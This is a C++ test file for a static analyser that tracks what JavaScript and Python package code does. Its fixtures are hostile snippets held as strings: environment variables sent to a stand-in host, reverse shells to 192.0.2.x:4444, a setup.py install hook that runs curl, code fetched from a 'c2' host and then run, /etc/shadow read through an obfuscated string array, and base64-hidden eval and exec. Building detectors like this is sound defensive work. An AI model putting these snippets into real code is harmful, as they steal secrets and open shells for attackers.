#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "facts/code/flow/flow_for_test.h"

namespace assay::code {
namespace {

TEST(Flow, Sees_the_environment_leave_through_a_request) {
  const Scene scene = javascript(R"(
const https = require('node:https');
const body = JSON.stringify({all: process.env});
const req = https.request({hostname: 'collect.example.test', path: '/x', method: 'POST'});
req.write(Buffer.from(body).toString('base64'));
)");
  ASSERT_ACTION(send, scene, Act::send, "https.request().write");
  EXPECT_TRUE(send->data.has(Source::environment));
  EXPECT_EQ(send->target, "https://collect.example.test/x");
  EXPECT_TRUE(send->at_load);
}

TEST(Flow, Resolves_names_through_aliases_destructuring_and_joined_strings) {
  const Scene scene = javascript(R"(
const {exec: run} = require('child_' + 'process');
const later = run;
later('whoami');
)");
  ASSERT_ACTION(action, scene, Act::run_shell, "child_process.exec");
  EXPECT_EQ(action->target, "whoami");
}

TEST(Flow, Reaches_eval_by_a_computed_name) {
  const Scene scene = javascript("globalThis['ev' + 'al'](\"require('fs').unlinkSync('/a')\");");
  ASSERT_ACTION(action, scene, Act::run_code, "eval");
  EXPECT_NE(scene.find(Act::delete_file, "fs.unlinkSync"), nullptr);
  EXPECT_THAT(scene.result.disguises,
              testing::Contains(testing::Field(&Disguised::kind, Disguise::computed_member)));
}

TEST(Flow, Opens_what_base64_hides_and_reads_it_too) {
  const Scene scene = javascript(
      "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCcvYScp', 'base64').toString())");
  ASSERT_ACTION(action, scene, Act::run_code, "eval");
  EXPECT_TRUE(action->target_from.has(Source::decoded));
  ASSERT_GE(action->program, 0);
  ASSERT_ACTION(inside, scene, Act::delete_file);
  EXPECT_EQ(inside->where.layer, action->program);
}

TEST(Flow, Runs_a_rotated_string_array_as_it_would_run) {
  // The shape of a common obfuscator: an accessor with an offset, an array that is turned until a
  // sum fits.
  const Scene scene = javascript(R"(
function list() { const a = ['readFileSync', '3x', '1y', '/etc/shadow', 'fs']; list = function () { return a; }; return list(); }
function at(i) { const a = list(); return a[i - 100]; }
(function (get, wanted) {
  const a = get();
  while (true) {
    try {
      const sum = parseInt(at(101)) + parseInt(at(102)) * 2;
      if (sum === wanted) break; else a.push(a.shift());
    } catch (e) { a.push(a.shift()); }
  }
})(list, 5);
require(at(104))[at(100)](at(103));
)");
  ASSERT_ACTION(action, scene, Act::read_file, "fs.readFileSync");
  EXPECT_EQ(action->target, "/etc/shadow");
  EXPECT_TRUE(action->data.has(Source::credential_file));
}

TEST(Flow, Decodes_a_loop_over_character_codes) {
  const Scene scene = javascript(R"(
const codes = [110, 99, 98, 97, 101, 108];
let name = '';
for (let i = 0; i < 4; i++) name += String.fromCharCode(codes[i] ^ 0);
require('child_process').exec(name + ' -e /bin/sh 192.0.2.1 4444');
)");
  ASSERT_ACTION(action, scene, Act::run_shell);
  EXPECT_EQ(action->target, "ncba -e /bin/sh 192.0.2.1 4444");
}

TEST(Flow, Follows_a_download_to_the_file_and_its_start) {
  const Scene scene = python(R"(
import os, urllib.request
data = urllib.request.urlopen("https://files.example.test/tool").read()
open("/tmp/tool-x", "wb").write(data)
os.system("chmod +x /tmp/tool-x && /tmp/tool-x")
)");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_TRUE(write->data.has(Source::remote));
  ASSERT_ACTION(run, scene, Act::run_shell, "os.system");
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(Flow, Runs_the_install_command_of_setup) {
  const Scene scene = python(R"(
from setuptools import setup
from setuptools.command.install import install
import subprocess as s
class Hook(install):
    def run(self):
        install.run(self)
        self.extra()
    def extra(self):
        s.Popen(["curl", "https://host.example.test/a"])
setup(name="x", cmdclass={"install": Hook})
)");
  ASSERT_ACTION(action, scene, Act::run_program, "subprocess.Popen");
  EXPECT_TRUE(action->at_load);
  ASSERT_ACTION(fetch, scene, Act::fetch, "curl");
  EXPECT_TRUE(fetch->through_shell);
}

TEST(Flow, Undoes_nested_python_decoders) {
  // exec(zlib(base64("os.system('id')"))), by other names.
  const Scene scene = python(R"(
import base64 as b
e = getattr(__import__('builtins'), 'ex' + 'ec')
e(b.b64decode(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))
)");
  ASSERT_ACTION(run, scene, Act::run_code, "exec");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
  ASSERT_ACTION(inside, scene, Act::run_shell, "os.system");
  EXPECT_EQ(inside->target, "id");
}

TEST(Flow, Decrypts_fernet_with_a_key_in_the_package) {
  const Scene scene = python(R"(
from cryptography.fernet import Fernet
exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'wrong'))
)");
  // A token that does not fit the key stays unresolved, and running it is still seen.
  ASSERT_ACTION(run, scene, Act::run_code, "exec");
  EXPECT_FALSE(run->target_complete);
}

TEST(Flow, Carries_values_across_files) {
  const Scene scene = analyse(R"(==> index.js
const { collect } = require('./lib/collect');
require('./lib/post')(collect());
==> lib/collect.js
exports.collect = () => require('os').hostname() + require('os').userInfo().username;
==> lib/post.js
module.exports = data => fetch('https://in.example.test/?d=' + data);
)");
  ASSERT_ACTION(send, scene, Act::send, "fetch");
  EXPECT_TRUE(send->target_from.has(Source::host));
  EXPECT_TRUE(send->target_from.has(Source::user));
  EXPECT_TRUE(send->at_load);
}

TEST(Flow, Tells_what_runs_at_load_from_what_a_caller_starts) {
  const Scene scene = javascript(R"(
const cp = require('child_process');
exports.run = function (command) { cp.exec(command); };
)");
  ASSERT_ACTION(action, scene, Act::run_shell);
  EXPECT_FALSE(action->at_load);
  EXPECT_TRUE(action->target_from.has(Source::argument));
}

TEST(Flow, Takes_a_main_guard_for_what_it_is) {
  const std::string code = "import os\nif __name__ == '__main__':\n    os.system('ls')\n";
  const Scene on_import = analyse("==> a.py\n" + code);
  ASSERT_ACTION(imported, on_import, Act::run_shell);
  EXPECT_FALSE(imported->at_load);
  const Scene as_program = analyse("==> a.py\n" + code, true);
  ASSERT_ACTION(started, as_program, Act::run_shell);
  EXPECT_TRUE(started->at_load);
}

TEST(Flow, Knows_a_reverse_shell_by_its_duplicated_socket) {
  const Scene scene = python(R"(
import socket, os, subprocess
s = socket.socket()
s.connect(("192.0.2.9", 4444))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])
)");
  EXPECT_NE(scene.find(Act::redirect_stream), nullptr);
  ASSERT_ACTION(connect, scene, Act::connect);
  EXPECT_EQ(connect->target, "192.0.2.9:4444");
}

TEST(Flow, Sees_no_shell_in_duplicating_a_log_file) {
  EXPECT_EQ(
      python("import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 1)\n").find(Act::redirect_stream),
      nullptr);
}

TEST(Flow, Reads_a_payload_from_a_file_of_the_package) {
  const Scene scene = analyse(R"(==> index.js
const fs = require('fs'), path = require('path');
eval(fs.readFileSync(path.join(__dirname, 'data.txt'), 'utf8'));
==> data.txt
require('fs').unlinkSync('/a');
)");
  ASSERT_ACTION(run, scene, Act::run_code);
  EXPECT_TRUE(run->target_from.has(Source::asset));
  EXPECT_NE(scene.find(Act::delete_file), nullptr);
}

TEST(Flow, Runs_callbacks_of_requests_with_what_came_from_the_network) {
  const Scene scene = javascript(R"(
require('https').get('https://c2.example.test/s', res => {
  let code = '';
  res.on('data', part => code += part);
  res.on('end', () => new Function(code)());
});
)");
  ASSERT_ACTION(run, scene, Act::run_code);
  EXPECT_TRUE(run->target_from.has(Source::remote));
  EXPECT_TRUE(run->at_load);
}

TEST(Flow, Notes_that_a_built_in_is_replaced) {
  EXPECT_NE(javascript("window.fetch = function (u) { return 1; };").find(Act::patch_global),
            nullptr);
}

TEST(Flow, Ends_on_endless_loops_and_says_so_only_of_real_ones) {
  EXPECT_NE(javascript("while (true) { console.log('x'); }").find(Act::endless_loop), nullptr);
  EXPECT_EQ(javascript("while (true) { if (done()) break; }").find(Act::endless_loop), nullptr);
  EXPECT_EQ(javascript("do { f(); } while (0);").find(Act::endless_loop), nullptr);
}

TEST(Flow, Stays_within_its_budget_on_code_made_to_be_slow) {
  std::string code =
      "def f(n):\n    s = ''\n    for i in range(200000):\n        s += chr(i % 90 + 33)\n    "
      "return s\n";
  for (int i = 0; i < 200; ++i)
    code += "x" + std::to_string(i) + " = f(" + std::to_string(i) + ")\n";
  const Scene scene = python(code);
  EXPECT_FALSE(scene.result.gaps.empty());
}

TEST(Flow, Ends_on_recursion_and_on_values_that_hold_themselves) {
  javascript("function f(x) { return f(f(x + 1)); } f(1); const a = []; a.push(a); eval(a + '');");
  python("def f(x):\n    return f(f(x))\nf(1)\na = []\na.append(a)\nprint(''.join(a))\n");
}

std::string repeated(std::string_view part, int times) {
  std::string text;
  for (int i = 0; i < times; ++i) text += part;
  return text;
}

TEST(Flow, Lists_objects_and_texts_that_double_end_at_their_budgets) {
  // Each would have two to the power of 200 parts.
  javascript("var a=[1];" + repeated("a=[...a,...a];", 200) + "eval(a.join(''))");
  javascript("var a=[1];" + repeated("a=a.concat(a);", 200) + "eval(a.join(''))");
  javascript("var s='a';" + repeated("s=s.replaceAll('a','aa');", 200) + "eval(s)");
  python("a=[1]\n" + repeated("a=a+a\n", 200) + "exec(''.join(a))\n");
  python("s='a'\n" + repeated("s=s.replace('a','aa')\n", 200) + "exec(s)\n");
  javascript("''.repeat(1e300);'a'.repeat(1e300);'a'.padStart(1e300);");
}

TEST(Flow, Looking_for_a_name_through_a_thousand_scopes_counts_as_work) {
  const Scene scene = javascript(repeated("for (let a in b) {", 900) + "c(d)" + repeated("}", 900));
  EXPECT_FALSE(scene.result.gaps.empty());
}

TEST(Flow, One_long_text_evaluated_very_often_counts_as_work) {
  const Scene scene =
      javascript("var s='" + repeated("a();", 50'000) + "';" + repeated("eval(s);", 50'000));
  EXPECT_FALSE(scene.result.gaps.empty());
}

TEST(Flow, A_callback_that_is_given_the_whole_long_list_each_time_costs_in_proportion) {
  const Scene scene = javascript("var l=[" + repeated("97,", 30'000) +
                                 "];eval(l.map((c, i, all) => String.fromCharCode(c)).join(''))");
  EXPECT_NE(scene.find(Act::run_code), nullptr);
}

TEST(Flow, Gives_the_same_answer_twice) {
  const std::string code =
      "const e = process.env; fetch('https://a.example.test', {body: e}); eval(atob('Zm9vKCk7'));";
  EXPECT_EQ(javascript(code).result.actions, javascript(code).result.actions);
}

}  // namespace
}  // namespace assay::code
